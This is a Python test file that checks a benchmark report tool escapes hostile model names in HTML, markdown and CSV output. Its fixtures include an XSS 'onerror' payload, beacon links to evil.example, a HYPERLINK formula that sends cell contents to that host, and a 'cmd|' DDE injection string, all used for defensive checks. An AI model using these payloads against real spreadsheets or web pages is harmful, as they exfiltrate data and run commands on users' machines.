"""Reports of hostile names: what a browser, a renderer of markdown and a spreadsheet make of them."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import duckdb
import pytest

from tests.attacks.results_parts import lbx, results_file

LINK = "[click](https://evil.example/x) ![](http://evil.example/beacon.png) <img src=x onerror=alert(1)> `a` |b"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"open")'


@pytest.fixture(scope="module")
def linked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return results_file(tmp_path_factory.mktemp("linked") / "r.duckdb", model=LINK, run=f"run {LINK}")


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return results_file(tmp_path_factory.mktemp("formulas") / "r.duckdb", model=FORMULA, output="-0.5\r\n=1+1")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attributes)))


def test_a_page_runs_and_fetches_nothing(linked: Path) -> None:
    page = lbx("report", linked, "--format", "html").out
    tags = _Tags()
    tags.feed(page)
    for tag, attributes in tags.seen:
        assert tag not in ("img", "iframe", "object", "embed", "link", "base", "image", "use"), tag
        assert not [name for name in attributes if name in ("style", "src", "srcset", "action") or name[:2] == "on"]
        assert (attributes.get("href") or "#").startswith("#")
    assert [a.get("type") for tag, a in tags.seen if tag == "script"].count(None) == 1, "the others are data"
    policies = [a["content"] for tag, a in tags.seen if a.get("http-equiv") == "Content-Security-Policy"]
    sums = []
    for tag in ("style", "script"):
        (text,) = re.findall(f"<{tag}>(.*?)</{tag}>", page, re.DOTALL)
        sums.append(f"{tag}-src 'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'")
    assert policies == [f"default-src 'none'; {'; '.join(sums)}; img-src blob:; base-uri 'none'; form-action 'none'"]
    assert page.index("Content-Security-Policy") < page.index("<title>") < page.index("evil.example")


def test_markdown_has_no_link_no_picture_no_html(linked: Path) -> None:
    text = lbx("report", linked, "--format", "markdown").out
    lines = [line for line in text.splitlines() if "evil.example" in line]
    assert lines
    for line in lines:
        outside = re.sub(r"(`+) .*? \1(?!`)", "", line)
        assert not re.search(r"[\[\]<>!`]|://", outside), outside
    # Every row has as many cells as its heading, so that nothing moves to another column.
    for table in re.findall(r"(?:^\|.*\n)+", text, re.MULTILINE):
        assert len({len(re.findall(r"(?<!\\)\|", line)) for line in table.splitlines()}) == 1


@pytest.mark.parametrize("command", ["report", "sql"])
def test_csv_holds_no_formula_and_stays_csv(formulas: Path, command: str) -> None:
    query = (
        ("leaderboard",)
        if command == "report"
        else ("SELECT model, -0.5::DOUBLE AS score, '-0.5' AS text, '- item' AS bullet, output FROM runs, generations",)
    )
    (row,) = csv.DictReader(io.StringIO(lbx(command, formulas, *query, "--format", "csv").out, newline=""))
    assert row["model"] == f"'{FORMULA}"
    for value in row.values():
        assert not re.match(r"[=+@\t\r]", value), value
        assert not value.startswith("-") or float(value) == -0.5
    if command == "sql":
        assert (row["score"], row["text"], row["bullet"]) == ("-0.5", "-0.5", "'- item")
    else:
        assert float(row["score"]) == 1.0


@pytest.mark.parametrize("name", ["=1", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\uff1d1"])
def test_no_beginning_of_a_formula(tmp_path: Path, name: str) -> None:
    said = lbx("report", results_file(tmp_path / "r.duckdb", model=name), "leaderboard", "--format", "csv")
    (row,) = csv.DictReader(io.StringIO(said.out, newline=""))
    assert row["model"] == (name if name == "+1" else f"'{name}")


def test_json_and_parquet_are_exact(formulas: Path, tmp_path: Path) -> None:
    query = "SELECT model, output FROM runs, generations"
    (row,) = json.loads(lbx("sql", formulas, query, "--format", "json").out)
    assert row == {"model": FORMULA, "output": "-0.5\r\n=1+1"}
    out = tmp_path / "x.parquet"
    assert lbx("sql", formulas, query, "--format", "parquet", "-o", out).code == 0
    assert duckdb.read_parquet(str(out)).fetchall() == [(FORMULA, "-0.5\r\n=1+1")]
